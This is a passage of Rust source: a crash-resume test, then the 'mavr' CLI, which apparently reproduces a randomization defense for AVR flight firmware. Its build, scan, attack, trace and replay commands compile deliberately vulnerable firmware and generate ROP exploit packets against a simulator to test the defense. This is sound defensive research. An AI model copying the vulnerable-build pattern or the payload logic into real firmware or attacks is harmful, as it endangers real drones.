    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Splitmix64 — the same generator the engine derives its streams from,
/// used here only to pick reproducible kill instants.
fn mix(seed: u64, i: u64) -> u64 {
    let mut z = seed ^ i.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

#[test]
fn sigkill_at_seeded_instants_resumes_to_byte_identical_report() {
    let root = tmp_dir("kill-root");
    let spec_path = root.join("spec-input.json");
    std::fs::write(&spec_path, SPEC).unwrap();
    let serve_args = [
        "serve",
        "--dir",
        root.to_str().unwrap(),
        "--spec",
        spec_path.to_str().unwrap(),
    ];

    // The oracle: one uninterrupted, unsharded in-process engine run.
    let spec = mavr_campaignd::CampaignSpec::from_json(SPEC).unwrap();
    let (expected, expected_metrics) =
        mavr_fleet::run_campaign_with_metrics(&spec.to_config().unwrap());

    // Three SIGKILLs at seeded instants spread across the campaign's
    // lifetime. A kill that lands after completion is a no-op rerun — the
    // invariant must hold wherever the timer fires.
    for round in 0..3u64 {
        let delay_ms = 25 + mix(0x00D1_5EA5_ED00_0000, round) % 450;
        let mut child = Command::new(BIN)
            .args(serve_args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(Duration::from_millis(delay_ms));
        let _ = child.kill(); // SIGKILL: no flush, no atexit, no mercy
        let _ = child.wait();
    }

    // Resume to completion. Every clean run makes monotone progress, so
    // this converges immediately; the bound is just a watchdog.
    let mut completed = false;
    for _ in 0..10 {
        let out = Command::new(BIN).args(serve_args).output().unwrap();
        assert!(
            out.status.success(),
            "resume failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        if String::from_utf8_lossy(&out.stdout).contains("complete") {
            completed = true;
            break;
        }
    }
    assert!(completed, "campaign never completed after the kill rounds");

    // Byte-identity: the auto-merged report equals the oracle's JSON, and
    // the re-merged metrics equal the oracle's exposition.
    let campaign_dir = root.join("kill-proof");
    let report = std::fs::read_to_string(campaign_dir.join("report.json")).unwrap();
    assert_eq!(report, expected.to_json(), "kill-anywhere byte identity");

    let store = mavr_campaignd::CampaignStore::open(&campaign_dir).unwrap();
    let (_, metrics) = mavr_campaignd::merge_store(&store).unwrap();
    assert_eq!(metrics.to_prometheus(), expected_metrics.to_prometheus());
    assert!(
        !store.quarantine_path().exists(),
        "a clean campaign quarantines nothing"
    );
}

#[test]
fn deadline_interrupts_cleanly_and_exits_zero() {
    let root = tmp_dir("deadline-root");
    let spec_path = root.join("spec-input.json");
    // Big enough that a 1-second deadline reliably fires mid-campaign
    // (4 jobs x 150M cycles is tens of seconds of debug-build work), yet
    // small enough that the post-deadline drain — the worker finishes the
    // job it already claimed — stays short.
    std::fs::write(
        &spec_path,
        SPEC.replace("1200000", "150000000")
            .replace("kill-proof", "slow"),
    )
    .unwrap();

    let out = Command::new(BIN)
        .args([
            "serve",
            "--dir",
            root.to_str().unwrap(),
            "--spec",
            spec_path.to_str().unwrap(),
            "--deadline-s",
            "1",
        ])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "a deadline stop is an orderly exit, not a failure: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("interrupted"), "{stdout}");

    // The flushed checkpoints are valid: a fresh status read sees them.
    let store = mavr_campaignd::CampaignStore::open(&root.join("slow")).unwrap();
    let status = store.status().unwrap();
    assert!(!status.complete(), "the deadline fired before completion");
}
