//! Command implementations behind the `mavr-cli` binary.
//!
//! Each subcommand is a function from parsed arguments to an output string,
//! so the whole surface is unit-testable without spawning processes. The
//! thin `src/bin/mavr.rs` wrapper does I/O and exit codes.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

use avr_core::image::FirmwareImage;
use hexfile::MavrContainer;
use synth_firmware::{apps, AppSpec, BuildOptions};

/// CLI errors, rendered to stderr by the binary.
#[derive(Debug)]
pub enum CliError {
    /// Bad usage; the string is the message to print along with help.
    Usage(String),
    /// Anything that went wrong running the command.
    Failed(String),
}

impl std::fmt::Display for CliError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CliError::Usage(m) => write!(f, "usage error: {m}"),
            CliError::Failed(m) => write!(f, "{m}"),
        }
    }
}

impl std::error::Error for CliError {}

fn fail(e: impl std::fmt::Display) -> CliError {
    CliError::Failed(e.to_string())
}

/// Parsed `--key value` / flag arguments.
#[derive(Debug, Default)]
pub struct Args {
    /// Positional arguments, in order.
    pub positional: Vec<String>,
    /// `--key value` options.
    pub options: std::collections::HashMap<String, String>,
    /// Bare `--flag`s.
    pub flags: std::collections::HashSet<String>,
}

/// Options that take a value (everything else with `--` is a flag).
const VALUED: &[&str] = &[
    "-o",
    "--out",
    "--seed",
    "--cycles",
    "--max-insns",
    "--start",
    "--len",
    "--target",
    "--values",
    "--variant",
    "--toolchain",
    "--scenario",
    "--boards",
    "--loss",
    "--fault",
    "--threads",
    "--capacity",
    "--warmup",
    "--restore",
    "--digest",
    "--interval",
    "--checkpoint",
    "--max-jobs",
    "--metrics-out",
    "--top",
    "--folded",
    "--steps",
    "--tenant",
    "--socket",
    "--spec",
    "--dir",
    "--campaign",
    "--shard-jobs",
    "--deadline-s",
    "--store-fault",
    "--store-fault-seed",
];

/// Split raw arguments into positionals, options and flags.
pub fn parse_args(raw: &[String]) -> Result<Args, CliError> {
    let mut args = Args::default();
    let mut it = raw.iter().peekable();
    while let Some(a) = it.next() {
        if VALUED.contains(&a.as_str()) {
            let v = it
                .next()
                .ok_or_else(|| CliError::Usage(format!("{a} needs a value")))?;
            args.options.insert(a.clone(), v.clone());
        } else if let Some(stripped) = a.strip_prefix("--") {
            args.flags.insert(stripped.to_string());
        } else {
            args.positional.push(a.clone());
        }
    }
    Ok(args)
}

fn app_by_name(name: &str) -> Result<AppSpec, CliError> {
    apps::by_name(name)
        .ok_or_else(|| CliError::Usage(format!("unknown app `{name}` ({})", apps::APP_NAMES)))
}

/// Load a firmware image from a MAVR container or plain Intel HEX file.
pub fn load_image(path: &str) -> Result<FirmwareImage, CliError> {
    let text = std::fs::read_to_string(path).map_err(fail)?;
    if text.lines().any(|l| l.starts_with(";MAVR")) {
        Ok(MavrContainer::parse(&text).map_err(fail)?.image)
    } else {
        let (base, bytes) = hexfile::parse_ihex(&text).map_err(fail)?;
        if base != 0 {
            return Err(CliError::Failed(format!(
                "image must load at 0, found base {base:#x}"
            )));
        }
        let len = bytes.len() as u32;
        Ok(FirmwareImage {
            device: avr_core::device::ATMEGA2560,
            bytes,
            symbols: Vec::new(),
            text_end: len,
            fn_ptr_locs: Vec::new(),
        })
    }
}

/// `mavr build <app> [--toolchain stock|mavr] [--vulnerable] [-o file]`
pub fn cmd_build(args: &Args) -> Result<String, CliError> {
    let name = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("build needs an app name".into()))?;
    let spec = app_by_name(name)?;
    let toolchain = match args.options.get("--toolchain").map(String::as_str) {
        None | Some("mavr") => avr_asm::ToolchainOptions::mavr(),
        Some("stock") => avr_asm::ToolchainOptions::stock(),
        Some(other) => {
            return Err(CliError::Usage(format!(
                "unknown toolchain `{other}` (stock, mavr)"
            )))
        }
    };
    let options = BuildOptions {
        toolchain,
        vulnerable: args.flags.contains("vulnerable"),
        serial_bootloader: args.flags.contains("bootloader"),
    };
    let fw = synth_firmware::build(&spec, &options).map_err(fail)?;
    let container = mavr::preprocess(&fw.image).map_err(fail)?;
    let text = container.to_text();
    let mut out = format!(
        "built {}: {} bytes, {} functions, {} pointer slots{}\n",
        spec.name,
        fw.image.code_size(),
        fw.image.function_count(),
        fw.image.fn_ptr_locs.len(),
        if options.vulnerable {
            " (VULNERABLE build)"
        } else {
            ""
        }
    );
    if let Some(path) = args.options.get("-o").or(args.options.get("--out")) {
        std::fs::write(path, &text).map_err(fail)?;
        out.push_str(&format!("wrote MAVR container to {path}\n"));
    } else {
        out.push_str("(pass -o FILE to write the MAVR container)\n");
    }
    Ok(out)
}

/// `mavr assemble <file.s> [-o FILE]` — assemble the `.s` dialect, link,
/// preprocess, and write a MAVR container.
pub fn cmd_assemble(args: &Args) -> Result<String, CliError> {
    let path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("assemble needs a source file".into()))?;
    let src = std::fs::read_to_string(path).map_err(fail)?;
    let program = avr_asm::parse_program(&src).map_err(fail)?;
    let image = avr_asm::link(&program).map_err(fail)?;
    let mut out = format!(
        "assembled {}: {} bytes, {} functions
",
        path,
        image.code_size(),
        image.function_count()
    );
    if let Some(dst) = args.options.get("-o").or(args.options.get("--out")) {
        let container = mavr::preprocess(&image).map_err(fail)?;
        std::fs::write(dst, container.to_text()).map_err(fail)?;
        out.push_str(&format!(
            "wrote MAVR container to {dst}
"
        ));
    }
    Ok(out)
}

/// `mavr info <file>`
pub fn cmd_info(args: &Args) -> Result<String, CliError> {
    let path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("info needs a file".into()))?;
    let img = load_image(path)?;
    let mut out = format!(
        "device      {}\ncode size   {} bytes\ntext end    {:#x}\nfunctions   {}\nsymbols     {}\nfn pointers {}\n",
        img.device.name,
        img.code_size(),
        img.text_end,
        img.function_count(),
        img.symbols.len(),
        img.fn_ptr_locs.len(),
    );
    if img.function_count() > 0 {
        out.push_str(&format!(
            "entropy     {:.0} bits (log2 n!)\n",
            mavr::math::entropy_bits(img.function_count() as u64)
        ));
    }
    Ok(out)
}

/// `mavr randomize <file> [--seed N] [-o file]`
pub fn cmd_randomize(args: &Args) -> Result<String, CliError> {
    let path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("randomize needs a container file".into()))?;
    let img = load_image(path)?;
    if img.function_count() == 0 {
        return Err(CliError::Failed(
            "no symbols — randomize needs a MAVR container, not plain HEX".into(),
        ));
    }
    let seed: u64 = args
        .options
        .get("--seed")
        .map(|s| s.parse().map_err(|_| CliError::Usage("bad --seed".into())))
        .transpose()?
        .unwrap_or(0x2015);
    let mut rng = mavr::seeded_rng(seed);
    let r = mavr::randomize(&img, &mut rng, &mavr::RandomizeOptions::default()).map_err(fail)?;
    let moved = img
        .functions()
        .filter(|s| r.image.symbol(&s.name).unwrap().addr != s.addr)
        .count();
    let mut out = format!(
        "randomized with seed {seed}: {moved}/{} functions moved\n",
        img.function_count()
    );
    if let Some(dst) = args.options.get("-o").or(args.options.get("--out")) {
        // The application processor receives a plain binary — write ihex.
        std::fs::write(dst, hexfile::write_ihex(&r.image.bytes, 0)).map_err(fail)?;
        out.push_str(&format!("wrote randomized Intel HEX to {dst}\n"));
    }
    if args.flags.contains("verify") {
        let mut m = avr_sim::Machine::new_atmega2560();
        m.load_flash(0, &r.image.bytes);
        let exit = m.run(1_500_000);
        out.push_str(&format!(
            "verify: {exit:?}, {} heartbeat toggles\n",
            m.heartbeat.toggles().len()
        ));
        if m.fault().is_some() || m.heartbeat.toggles().len() < 5 {
            return Err(CliError::Failed(
                "verification failed: randomized image does not fly".into(),
            ));
        }
    }
    Ok(out)
}

/// `mavr survivors <original> <randomized>` — how many gadget addresses
/// from the original image still host the same gadget.
pub fn cmd_survivors(args: &Args) -> Result<String, CliError> {
    let (a, b) = match args.positional.as_slice() {
        [a, b, ..] => (a, b),
        _ => return Err(CliError::Usage("survivors needs two files".into())),
    };
    let orig = load_image(a)?;
    let rand = load_image(b)?;
    let opts = rop::ScanOptions::default();
    let total = rop::scan(
        &orig,
        &rop::ScanOptions {
            dedup: false,
            ..opts
        },
    )
    .len();
    let alive = rop::scanner::survivors(&orig, &rand, &opts);
    Ok(format!(
        "gadget start addresses: {total}; still valid after randomization: {alive} ({:.2}%)\n",
        100.0 * alive as f64 / total.max(1) as f64
    ))
}

/// `mavr scan <file> [--max-insns N] [--no-dedup]`
pub fn cmd_scan(args: &Args) -> Result<String, CliError> {
    let path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("scan needs a file".into()))?;
    let img = load_image(path)?;
    let opts = rop::ScanOptions {
        max_insns: args
            .options
            .get("--max-insns")
            .map(|s| {
                s.parse()
                    .map_err(|_| CliError::Usage("bad --max-insns".into()))
            })
            .transpose()?
            .unwrap_or(6),
        dedup: !args.flags.contains("no-dedup"),
    };
    let gadgets = rop::scan(&img, &opts);
    let mut out = format!(
        "{} gadgets (max {} insns, dedup {})\n",
        gadgets.len(),
        opts.max_insns,
        opts.dedup
    );
    match rop::scanner::classify(&img) {
        Some(map) => {
            out.push_str(&format!(
                "stk_move at {:#x}, write_mem_gadget at {:#x} — attack-capable\n",
                map.stk_move, map.write_mem_std
            ));
        }
        None => out.push_str("paper gadget pair not found\n"),
    }
    if args.flags.contains("listing") {
        for g in gadgets.iter().take(25) {
            out.push_str(&g.listing());
            out.push('\n');
        }
    }
    Ok(out)
}

/// `mavr disasm <file> [--start ADDR] [--len BYTES]`
pub fn cmd_disasm(args: &Args) -> Result<String, CliError> {
    let path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("disasm needs a file".into()))?;
    let img = load_image(path)?;
    let start = parse_num(args.options.get("--start"), 0)?;
    let len = parse_num(args.options.get("--len"), 64)?;
    let mut out = String::new();
    for line in avr_core::disasm::disassemble(&img.bytes, start, len) {
        if let Some(sym) = img.symbol_containing(line.addr) {
            if sym.addr == line.addr {
                out.push_str(&format!("\n<{}>:\n", sym.name));
            }
        }
        out.push_str(&format!("{line}\n"));
    }
    Ok(out)
}

fn parse_num(v: Option<&String>, default: u32) -> Result<u32, CliError> {
    match v {
        None => Ok(default),
        Some(s) => {
            let parsed = if let Some(hex) = s.strip_prefix("0x") {
                u32::from_str_radix(hex, 16)
            } else {
                s.parse()
            };
            parsed.map_err(|_| CliError::Usage(format!("bad number `{s}`")))
        }
    }
}

/// `mavr simulate <file> [--cycles N]`
pub fn cmd_simulate(args: &Args) -> Result<String, CliError> {
    let path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("simulate needs a file".into()))?;
    let img = load_image(path)?;
    let cycles = u64::from(parse_num(args.options.get("--cycles"), 2_000_000)?);
    let mut m = avr_sim::Machine::new_atmega2560();
    m.load_flash(0, &img.bytes);
    let exit = m.run(cycles);
    let mut gcs = mavlink_lite::GroundStation::new();
    gcs.ingest(&m.uart0.take_tx());
    Ok(format!(
        "ran {} cycles ({:.1} ms at 16 MHz)\nexit        {:?}\nheartbeats  {} toggles on the pin, {} MAVLink heartbeats decoded\npackets     {} total, {} checksum errors\n",
        m.cycles(),
        m.cycles() as f64 / 16_000.0,
        exit,
        m.heartbeat.toggles().len(),
        gcs.heartbeats.len(),
        gcs.received.len(),
        gcs.bad_checksums(),
    ))
}

/// `mavr profile <file> [--cycles N] [--top N] [--folded FILE]`
///
/// Run the image under the cycle-attributed profiler: every simulated
/// cycle is charged to the function whose code executed it, with a shadow
/// call stack tracking inclusive time through calls, returns, interrupts
/// and lateral (tail-jump / ROP-style) transfers. Prints a table of the
/// hottest functions by exclusive cycles; `--folded FILE` writes
/// collapsed call stacks (`frame;frame cycles` lines) ready for any
/// flamegraph renderer.
pub fn cmd_profile(args: &Args) -> Result<String, CliError> {
    let path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("profile needs a file".into()))?;
    let img = load_image(path)?;
    if img.function_count() == 0 {
        return Err(CliError::Usage(
            "no symbols — profile needs a MAVR container, not plain HEX".into(),
        ));
    }
    let cycles = u64::from(parse_num(args.options.get("--cycles"), 2_000_000)?);
    let top = parse_num(args.options.get("--top"), 10)? as usize;
    let mut m = avr_sim::Machine::new_atmega2560();
    m.load_flash(0, &img.bytes);
    m.enable_cycle_profile(&img);
    let exit = m.run(cycles);
    let profile = m
        .take_cycle_profile()
        .expect("profiler was enabled before run");
    let mut out = format!(
        "profiled {} cycles ({:.1} ms at 16 MHz), exit {:?}\n\n",
        m.cycles(),
        m.cycles() as f64 / 16_000.0,
        exit,
    );
    let total = profile.total_cycles().max(1);
    out.push_str(&format!(
        "{:<28} {:>12} {:>7}  {:>12}\n",
        "FUNCTION", "EXCLUSIVE", "EXCL%", "INCLUSIVE"
    ));
    for f in profile.functions().iter().take(top.max(1)) {
        out.push_str(&format!(
            "{:<28} {:>12} {:>6.1}%  {:>12}\n",
            f.name,
            f.exclusive,
            100.0 * f.exclusive as f64 / total as f64,
            f.inclusive,
        ));
    }
    if profile.folded_dropped_cycles() > 0 {
        out.push_str(&format!(
            "\n({} cycles in call paths beyond the folded-stack cap)\n",
            profile.folded_dropped_cycles()
        ));
    }
    if let Some(folded_path) = args.options.get("--folded") {
        std::fs::write(folded_path, profile.folded()).map_err(fail)?;
        out.push_str(&format!("\nwrote folded stacks to {folded_path}\n"));
    }
    Ok(out)
}

/// `mavr attack <file> --target ADDR --values a,b,c [--variant v1|v2]`
pub fn cmd_attack(args: &Args) -> Result<String, CliError> {
    let path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("attack needs a container file".into()))?;
    let img = load_image(path)?;
    let target = parse_num(
        args.options.get("--target"),
        u32::from(synth_firmware::layout::GYRO + 3),
    )? as u16;
    let values: Vec<u8> = args
        .options
        .get("--values")
        .map(String::as_str)
        .unwrap_or("de,ad,42")
        .split(',')
        .map(|s| u8::from_str_radix(s.trim(), 16))
        .collect::<Result<_, _>>()
        .map_err(|_| CliError::Usage("bad --values (hex bytes, comma separated)".into()))?;
    if values.len() != 3 {
        return Err(CliError::Usage("--values needs exactly 3 bytes".into()));
    }
    let vals = [values[0], values[1], values[2]];
    let ctx = rop::attack::AttackContext::discover(&img).map_err(fail)?;
    let payload = match args.options.get("--variant").map(String::as_str) {
        Some("v1") => ctx.v1_payload(target, vals),
        None | Some("v2") => ctx.v2_payload(&[(target, vals)]).map_err(fail)?,
        Some(other) => return Err(CliError::Usage(format!("unknown variant `{other}`"))),
    };
    let mut gcs = mavlink_lite::GroundStation::new();
    let wire = gcs.exploit_packet(&payload).map_err(fail)?;
    let hex: Vec<String> = wire.iter().map(|b| format!("{b:02x}")).collect();
    Ok(format!(
        "gadgets: stk_move {:#x}, write_mem {:#x}\nbuffer {:#06x}, original ret {:02x?}\npayload {} bytes, wire {} bytes\n{}\n",
        ctx.gadgets.stk_move,
        ctx.gadgets.write_mem_std,
        ctx.buffer,
        ctx.orig_ret,
        payload.len(),
        wire.len(),
        hex.join("")
    ))
}

/// `mavr trace [--scenario boot|clean-attack|stealthy-attack] [--seed N]
/// [--cycles N] [--out FILE]`
///
/// Run a canned scenario with the flight recorder attached, dump the event
/// stream as JSON lines (to `--out` when given), and print a per-kind
/// summary table. Attack scenarios end with the post-mortem crash
/// narrative, attributing the dead machine's final PCs to functions and
/// attacker gadgets.
pub fn cmd_trace(args: &Args) -> Result<String, CliError> {
    use mavr::policy::RandomizationPolicy;
    use mavr_board::MavrBoard;
    use telemetry::{Recorder, RingRecorder, Telemetry, Value};

    let scenario = args
        .options
        .get("--scenario")
        .map(String::as_str)
        .unwrap_or("stealthy-attack");
    let seed = u64::from(parse_num(args.options.get("--seed"), 0x2015)?);
    let cycles = u64::from(parse_num(args.options.get("--cycles"), 3_000_000)?);
    let fw = synth_firmware::build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr())
        .map_err(fail)?;

    let t = Telemetry::new(RingRecorder::new(4096));
    let mut narrative = String::new();

    match scenario {
        "boot" => {
            // Provision lifecycle: container read -> randomize -> stream ->
            // program -> watchdog arm, then a quiet flight and a reboot.
            let mut board = MavrBoard::provision_with(
                &fw.image,
                seed,
                RandomizationPolicy::default(),
                t.clone(),
            )
            .map_err(fail)?;
            board.run(cycles).map_err(fail)?;
            board.reboot().map_err(fail)?;
            narrative.push_str(&format!(
                "boot scenario: {} boots, {} recoveries, app at cycle {}\n",
                board.master.boot_count(),
                board.recoveries(),
                board.app.machine.cycles()
            ));
        }
        "clean-attack" => {
            // The paper's V2 against an UNPROTECTED machine: injection,
            // clean return, telemetry keeps flowing.
            let ctx = rop::attack::AttackContext::discover_with(&fw.image, &t).map_err(fail)?;
            let target = synth_firmware::layout::GYRO + 3;
            let payload = ctx
                .v2_payload(&[(target, [0xde, 0xad, 0x42])])
                .map_err(fail)?;
            let mut m = avr_sim::Machine::new_atmega2560();
            m.telemetry = t.clone();
            m.enable_trace(64);
            m.load_flash(0, &fw.image.bytes);
            let _ = m.run(300_000);
            let mut gcs = mavlink_lite::GroundStation::new();
            let wire = gcs.exploit_packet(&payload).map_err(fail)?;
            let (len, cycle) = (wire.len(), m.cycles());
            t.emit("attack.injected", Some(cycle), || {
                vec![
                    ("variant", Value::Str("v2".into())),
                    ("wire_bytes", Value::U64(len as u64)),
                    ("target", Value::U64(u64::from(target))),
                ]
            });
            m.uart0.inject(&wire);
            let _ = m.run(cycles);
            let overwritten = m.peek_range(target, 3) == [0xde, 0xad, 0x42];
            let clean = m.fault().is_none();
            t.emit(
                if clean {
                    "attack.clean_return"
                } else {
                    "attack.crash"
                },
                Some(m.cycles()),
                || {
                    vec![
                        ("overwrote_target", Value::Bool(overwritten)),
                        ("heartbeats", Value::U64(m.heartbeat.toggles().len() as u64)),
                    ]
                },
            );
            let report = avr_sim::CrashReport::capture(&m, Some(&fw.image), &ctx.annotations());
            narrative.push_str(&format!(
                "clean-attack scenario: target overwritten = {overwritten}, machine {}\n\n",
                if clean { "still flying" } else { "CRASHED" }
            ));
            narrative.push_str(&report.narrative());
        }
        "stealthy-attack" => {
            // Full defense. The interesting run is one where the chain,
            // landing in re-randomized code, visibly crashes the machine and
            // the master recovers — quietly find a board seed that produces
            // that (the master's RNG is deterministic per seed), then replay
            // it with the recorder attached.
            let ctx = rop::attack::AttackContext::discover(&fw.image).map_err(fail)?;
            let target = synth_firmware::layout::GYRO + 3;
            let payload = ctx
                .v2_payload(&[(target, [0xde, 0xad, 0x42])])
                .map_err(fail)?;
            let mut gcs = mavlink_lite::GroundStation::new();
            let wire = gcs.exploit_packet(&payload).map_err(fail)?;
            let attack_round = |board: &mut MavrBoard| -> Result<(), CliError> {
                board.run(300_000).map_err(fail)?;
                board.uplink(&wire);
                board.run(cycles.max(4_000_000)).map_err(fail)?;
                Ok(())
            };
            let mut chosen = None;
            for probe in 0..32u64 {
                let s = seed.wrapping_add(probe);
                let mut board = MavrBoard::provision(&fw.image, s, RandomizationPolicy::default())
                    .map_err(fail)?;
                attack_round(&mut board)?;
                if board.recoveries() >= 1 {
                    let faulted = board.last_crash.as_ref().is_some_and(|c| c.fault.is_some());
                    if chosen.is_none() || faulted {
                        chosen = Some(s);
                    }
                    if faulted {
                        break;
                    }
                }
            }
            let s = chosen.ok_or_else(|| {
                CliError::Failed("no probed seed produced a detected failed attack".into())
            })?;
            let ctx = rop::attack::AttackContext::discover_with(&fw.image, &t).map_err(fail)?;
            let mut board =
                MavrBoard::provision_with(&fw.image, s, RandomizationPolicy::default(), t.clone())
                    .map_err(fail)?;
            board.forensic_annotations = ctx.annotations();
            board.run(300_000).map_err(fail)?;
            let (len, cycle) = (wire.len(), board.app.machine.cycles());
            t.emit("attack.injected", Some(cycle), || {
                vec![
                    ("variant", Value::Str("v2".into())),
                    ("wire_bytes", Value::U64(len as u64)),
                    ("target", Value::U64(u64::from(target))),
                ]
            });
            board.uplink(&wire);
            board.run(cycles.max(4_000_000)).map_err(fail)?;
            let overwritten = board.app.machine.peek_range(target, 3) == [0xde, 0xad, 0x42];
            narrative.push_str(&format!(
                "stealthy-attack scenario (board seed {s}): attack succeeded = {overwritten}, \
                 recoveries = {}\n\n",
                board.recoveries()
            ));
            match &board.last_crash {
                Some(crash) => narrative.push_str(&crash.narrative()),
                None => narrative.push_str("no recovery occurred (attack soft-landed)\n"),
            }
        }
        other => {
            return Err(CliError::Usage(format!(
                "unknown scenario `{other}` (boot, clean-attack, stealthy-attack)"
            )))
        }
    }

    let (jsonl, kinds, total, dropped) = t
        .with_recorder::<RingRecorder, _>(|r| {
            let kinds: Vec<(String, u64)> = r
                .histogram()
                .into_iter()
                .map(|(k, v)| (k.to_string(), v))
                .collect();
            (r.to_jsonl(), kinds, r.events_emitted(), r.dropped())
        })
        .expect("trace recorder is a ring");

    let mut out = String::new();
    if let Some(path) = args.options.get("-o").or(args.options.get("--out")) {
        std::fs::write(path, &jsonl).map_err(fail)?;
        out.push_str(&format!(
            "wrote {total} events to {path} ({dropped} dropped from the ring)\n\n"
        ));
    }
    out.push_str(&format!("{:<24} {:>8}\n", "event kind", "count"));
    for (kind, count) in &kinds {
        out.push_str(&format!("{kind:<24} {count:>8}\n"));
    }
    out.push_str(&format!("{:<24} {total:>8}\n\n", "total"));
    out.push_str(&narrative);
    Ok(out)
}

/// Deterministic one-line JSON digest of a machine's full state — two
/// machines produce the same digest iff they are architecturally identical
/// (SRAM and flash are folded through CRC-32).
fn state_digest(m: &avr_sim::Machine) -> String {
    let state = m.capture_state();
    format!(
        "{{\"pc\":{},\"cycles\":{},\"insns_retired\":{},\"interrupts_taken\":{},\
         \"fault\":\"{:?}\",\"sram_crc\":{},\"flash_crc\":{},\"heartbeat_toggles\":{}}}\n",
        u64::from(state.pc) * 2,
        state.cycles,
        state.insns_retired,
        state.interrupts_taken,
        state.fault,
        mavr_snapshot::crc32(&state.data),
        mavr_snapshot::crc32(&state.flash),
        state.heartbeat.toggles.len(),
    )
}

/// `mavr snapshot <file> [--cycles N] [--restore SNAP] [-o SNAP]
/// [--digest FILE]`
///
/// Run an image on the simulator up to an absolute cycle target
/// (`--cycles`, default 2,000,000), optionally resuming from a snapshot
/// written by an earlier invocation (`--restore`). `-o` writes the final
/// machine state as a CRC-guarded snapshot blob; `--digest` writes a
/// deterministic state digest. Because `--cycles` is an absolute target,
/// splitting a run across a save/restore pair produces the same digest as
/// running uninterrupted.
pub fn cmd_snapshot(args: &Args) -> Result<String, CliError> {
    use mavr_snapshot::{decode_machine, encode_machine};

    let path = args
        .positional
        .first()
        .ok_or_else(|| CliError::Usage("snapshot needs an image file".into()))?;
    let img = load_image(path)?;
    let target = u64::from(parse_num(args.options.get("--cycles"), 2_000_000)?);
    let mut m = avr_sim::Machine::new_atmega2560();
    m.load_flash(0, &img.bytes);
    let resumed = if let Some(snap) = args.options.get("--restore") {
        let blob = std::fs::read(snap).map_err(fail)?;
        let state = decode_machine(&blob).map_err(fail)?;
        m.restore_state(&state);
        true
    } else {
        false
    };
    let exit = m.run(target.saturating_sub(m.cycles()));
    let mut out = format!(
        "{} to cycle {target}: {exit:?} at cycle {}, pc {:#06x}, {} heartbeat toggles\n",
        if resumed { "resumed" } else { "ran" },
        m.cycles(),
        m.pc_bytes(),
        m.heartbeat.toggles().len(),
    );
    if let Some(dst) = args.options.get("-o").or(args.options.get("--out")) {
        let blob = encode_machine(&m.capture_state());
        std::fs::write(dst, &blob).map_err(fail)?;
        out.push_str(&format!(
            "wrote machine snapshot to {dst} ({} bytes)\n",
            blob.len()
        ));
    }
    if let Some(dst) = args.options.get("--digest") {
        std::fs::write(dst, state_digest(&m)).map_err(fail)?;
        out.push_str(&format!("wrote state digest to {dst}\n"));
    }
    Ok(out)
}

/// `mavr replay [--seed N] [--cycles N] [--interval N] [-o SNAP]`
///
/// The paper's §V question, answered by time travel: fly the V2 stealthy
/// exploit (built against the published stock layout) into both a stock
/// build and a MAVR-randomized variant of it, record keyframe timelines of
/// both runs, and bisect to the exact first cycle where the randomized
/// execution departs from the stock one — the moment the attacker's
/// hard-coded gadget addresses stopped matching reality. Prints the
/// divergence, then the randomized machine's post-mortem crash report with
/// the divergence cycle attached; `-o` also writes the last keyframe
/// before the divergence as a reloadable snapshot.
pub fn cmd_replay(args: &Args) -> Result<String, CliError> {
    use mavr_snapshot::{bisect_divergence, Timeline};

    let seed = u64::from(parse_num(args.options.get("--seed"), 0x2015)?);
    let cycles = u64::from(parse_num(args.options.get("--cycles"), 4_000_000)?);
    let interval = u64::from(parse_num(args.options.get("--interval"), 250_000)?);

    let fw = synth_firmware::build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr())
        .map_err(fail)?;
    let mut rng = mavr::seeded_rng(seed);
    let r =
        mavr::randomize(&fw.image, &mut rng, &mavr::RandomizeOptions::default()).map_err(fail)?;

    // The exploit an attacker holding the published image would send:
    // gadget addresses from the STOCK layout.
    let ctx = rop::attack::AttackContext::discover(&fw.image).map_err(fail)?;
    let target = synth_firmware::layout::GYRO + 3;
    let payload = ctx
        .v2_payload(&[(target, [0xde, 0xad, 0x42])])
        .map_err(fail)?;
    let mut gcs = mavlink_lite::GroundStation::new();
    let wire = gcs.exploit_packet(&payload).map_err(fail)?;

    // Identical flight plans for both layouts: warm up, inject the same
    // wire bytes (with a keyframe marking the injection so it replays),
    // fly on.
    let fly = |bytes: &[u8]| {
        let mut m = avr_sim::Machine::new_atmega2560();
        m.load_flash(0, bytes);
        let mut tl = Timeline::new(interval);
        tl.record(&mut m, 300_000);
        m.uart0.inject(&wire);
        tl.mark(&mut m);
        tl.record(&mut m, cycles);
        (m, tl)
    };
    let (mut stock_m, mut stock_tl) = fly(&fw.image.bytes);
    let (mut rand_m, mut rand_tl) = fly(&r.image.bytes);

    let mut out = format!(
        "stock:      {} keyframes, final cycle {}, fault {:?}\n\
         randomized: {} keyframes, final cycle {}, fault {:?}\n",
        stock_tl.keyframes().len(),
        stock_m.cycles(),
        stock_m.fault(),
        rand_tl.keyframes().len(),
        rand_m.cycles(),
        rand_m.fault(),
    );

    let Some(d) = bisect_divergence(
        &mut stock_tl,
        &mut stock_m,
        &fw.image,
        &mut rand_tl,
        &mut rand_m,
        &r.image,
    ) else {
        out.push_str("no divergence: both layouts executed equivalently\n");
        return Ok(out);
    };
